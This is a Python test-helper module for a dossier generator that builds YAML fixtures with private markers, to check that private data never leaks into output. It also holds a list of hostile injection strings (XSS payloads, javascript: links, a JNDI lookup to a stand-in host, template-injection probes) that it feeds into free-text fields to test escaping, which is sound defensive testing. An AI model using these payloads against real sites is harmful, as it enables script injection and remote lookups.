"""Dossiers for tests: markers in every private place, and hostile text everywhere."""

from __future__ import annotations

from typing import Any

import yaml

from generator.load import WrittenFloat, resolve_plain

from .conftest import FIXTURES


class _NoAliases(yaml.SafeDumper):
    """Write shared Python objects out in full: dossiers refuse YAML aliases."""

    def ignore_aliases(self, data: Any) -> bool:
        return True


def _represent_text(dumper: yaml.SafeDumper, value: str) -> yaml.ScalarNode:
    """Quote text that our YAML 1.2 loader would read as something else ('1e309', '0970')."""
    try:
        plain = resolve_plain(value)
    except ValueError:
        plain = None
    if isinstance(plain, str) and plain == value:
        return dumper.represent_str(value)
    return dumper.represent_scalar("tag:yaml.org,2002:str", value, style='"')


_NoAliases.add_representer(WrittenFloat, lambda dumper, value: dumper.represent_float(float(value)))
_NoAliases.add_representer(str, _represent_text)


def dossier_with_markers() -> dict[str, Any]:
    data: dict[str, Any] = yaml.safe_load((FIXTURES / "minimal.yml").read_text(encoding="utf-8"))
    data["notes"] = "PRIVATE-dossier-notes"
    data["partners"][0]["notes"] = "PRIVATE-partner-notes"
    data["places"] = [
        {"id": "zaal", "name": "PUBLIC-place", "public": True},
        {
            "id": "keuken",
            "name": "PRIVATE-place-name",
            "address": "PRIVATE-place-address",
            "public": False,
        },
    ]
    data["agenda"][0]["notes"] = "PRIVATE-activity-notes"
    data["agenda"][0]["place"] = "zaal"
    data["agenda"].append(
        {
            "id": "PRIVATE-activity-id".lower(),
            "title": "PRIVATE-activity-title",
            "description": "PRIVATE-activity-description",
            "start": "2026-12-06T10:00",
            "organisers": ["bieb"],
            "place": "keuken",
            "public": False,
            "online": "https://private-activity-url.example/x",
        }
    )
    agreement = {"kind": "covenant", "parties": ["bieb", "gemeente"]}
    data["agreements"] = [
        {
            **agreement,
            "id": "open",
            "title": "PUBLIC-agreement",
            "status": "signed",
            "signed": "2026-01-01",
            "public": True,
            "notes": "PRIVATE-agreement-notes",
        },
        {
            **agreement,
            "id": "dicht",
            "title": "PRIVATE-agreement-title",
            "status": "signed",
            "signed": "2026-01-01",
            "public": False,
            "investments": [
                {"partner": "bieb", "amount": 987654321, "description": "PRIVATE-investment"}
            ],
        },
        {
            **agreement,
            "id": "concept",
            "title": "PRIVATE-draft-agreement",
            "status": "draft",
            "public": False,
            "document": "https://private-draft.example/doc",
        },
    ]
    data["contacts"] = [
        {
            "name": "PUBLIC-contact",
            "email": "private-email@bieb.example",
            "phone": "020 555 0101",
            "public": True,
        },
        {
            "name": "PUBLIC-open-contact",
            "email": "public-email@bieb.example",
            "phone": "020 555 0199",
            "public": True,
            "email_public": True,
            "phone_public": True,
        },
        {
            "name": "PRIVATE-contact-name",
            "role": "PRIVATE-contact-role",
            "email": "private-contact@bieb.example",
            "phone": "06 5555 0102",
            "public": False,
        },
    ]
    return data


def draft_with_markers() -> dict[str, Any]:
    data: dict[str, Any] = yaml.safe_load((FIXTURES / "minimal.yml").read_text(encoding="utf-8"))
    data["status"] = "draft"
    data["name"] = "PRIVATE-draft-dossier"
    data["societal_question"] = "PRIVATE-draft-question"
    return data


def dump_dossier(data: dict[str, Any]) -> str:
    return yaml.dump(data, Dumper=_NoAliases, allow_unicode=True, sort_keys=False)


# Found in private places only; none may appear in any output.
PRIVATE_MARKERS = ("private-", "987654321", "concept-dossier")
# Phone numbers that are private, compared on digits alone.
PRIVATE_PHONES = ("0205550101", "0655550102")


# Strings that try to escape their context. Each one must show as plain text.
HOSTILE = (
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=https://elders.example></iframe>",
    '<a href="javascript:alert(1)">klik</a>',
    "<style>body{display:none}</style>",
    "<div markdown>**vet**</div>",
    "</div></div><script>alert(2)</script>",
    "<!-- commentaar -->",
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik]( javascript:alert(1) )",
    "[klik](data:text/html;base64,PHNjcmlwdD4=)",
    "[klik][ref]\n\n[ref]: javascript:alert(1)",
    "![pixel](https://elders.example/pixel.gif)",
    "<https://elders.example/autolink>",
    '{: onclick="alert(1)" }',
    "tekst {: #id .klasse onmouseover=alert(1) }",
    "{{ 7*7 }} {% raw %} {# x #}",
    "${jndi:ldap://elders.example/a}",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`code` ``dubbel`` ```blok```",
    "**vet** __vet__ *schuin* _schuin_ ~~door~~",
    "# kop\n## nog een kop",
    "- lijst\n- lijst",
    "1. genummerd",
    "> citaat",
    "| tabel | breker |\n|---|---|",
    "---\ntitle: voorwerk\n---",
    "\\ backslash \\\\ dubbel",
    "regel\r\nmet CRLF",
    "tab\there",
    "rechts \u2067\u05e2\u05d1\u05e8\u05d9\u05ea\u2069 links",
    "nul\u200bbreedte",
    "emoji 🎉 en 家族 en עִברִית",
    "o" * 300,
    "\"dubbele\" en 'enkele' aanhalingstekens",
    "javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<SCRIPT SRC=//elders.example/x.js></SCRIPT>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
)


def hostile_variant(data: Any, is_free_text: Any) -> dict[str, Any]:
    """Every free-text value of a dossier replaced by a hostile string.

    `is_free_text(path)` says whether a string at that path may hold any text;
    ids, dates, addresses and enums are left as they are. A counter keeps
    every value unique, so no two names collide.
    """
    counter = iter(range(10**6))

    def walk(value: Any, path: tuple[Any, ...]) -> Any:
        if isinstance(value, dict):
            return {k: walk(v, (*path, k)) for k, v in value.items()}
        if isinstance(value, list):
            return [walk(v, (*path, i)) for i, v in enumerate(value)]
        if isinstance(value, str) and is_free_text(path):
            n = next(counter)
            return f"{HOSTILE[n % len(HOSTILE)]} ·{n}"
        return value

    result: dict[str, Any] = walk(data, ())
    return result


def replace_at(data: Any, path: tuple[Any, ...], new: Any) -> Any:
    """A copy of nested data with the value at path replaced."""
    if not path:
        return new
    head, rest = path[0], path[1:]
    if isinstance(data, dict):
        return {**data, head: replace_at(data[head], rest, new)}
    copy = list(data)
    copy[head] = replace_at(copy[head], rest, new)
    return copy
